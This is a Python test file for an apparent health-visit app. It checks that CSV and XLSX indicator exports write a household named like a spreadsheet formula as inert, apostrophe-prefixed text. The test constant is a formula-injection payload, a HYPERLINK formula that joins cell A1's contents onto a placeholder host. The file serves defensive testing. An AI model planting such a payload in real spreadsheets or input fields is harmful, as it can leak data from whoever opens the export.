"""A household named like a spreadsheet formula goes out of every export as inert text."""

import csv
import datetime
import io

import pytest
import time_machine
from openpyxl import load_workbook

from jigiya.accounts.roles import Role
from jigiya.followup import services
from jigiya.registry import services as registry
from jigiya.registry.tests.factories import PersonFactory

FORMULA = '=HYPERLINK("http://x"&A1,"Cliquez")'
HEADER = ["date", "household__community__name", "chw__username", "household__name", "people_seen"]


@pytest.fixture
def visited(cast, chw):
    """On 3 June 2025 the CHW visits the household named like a formula and sees one person."""
    with time_machine.travel(datetime.datetime(2025, 7, 10, 9, 0), tick=False):
        household = registry.household_create(
            actor=chw, community=cast.community_a, name=FORMULA, chw=chw
        )
        awa = PersonFactory(household=household, given_name="Awa")
        services.visit_record(
            actor=chw, household=household, date=datetime.date(2025, 6, 3), people=[awa.pk]
        )
        yield household


def _export(client, cast, fmt):
    client.force_login(cast.user(Role.ME_OFFICER))
    query = {"indicator": "health.visits", "place": str(cast.community_a.pk), "month": "2025-06"}
    response = client.get("/indicators/export/records/", {**query, "format": fmt})
    assert response.status_code == 200
    return response


def test_the_csv_record_export_writes_the_formula_as_text(cast, client, visited):
    body = _export(client, cast, "csv").content.decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(body))) == [
        HEADER,
        ["2025-06-03", "Community A", "chw-a", "'" + FORMULA, "1"],
    ]


def test_the_xlsx_record_export_writes_the_formula_as_a_string(cast, client, visited):
    sheet = load_workbook(io.BytesIO(_export(client, cast, "xlsx").content)).active
    assert [list(row) for row in sheet.iter_rows(values_only=True)] == [
        HEADER,
        ["2025-06-03", "Community A", "chw-a", "'" + FORMULA, 1],
    ]
    assert [cell.data_type for cell in list(sheet.iter_rows())[1]] == ["s", "s", "s", "s", "n"]
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
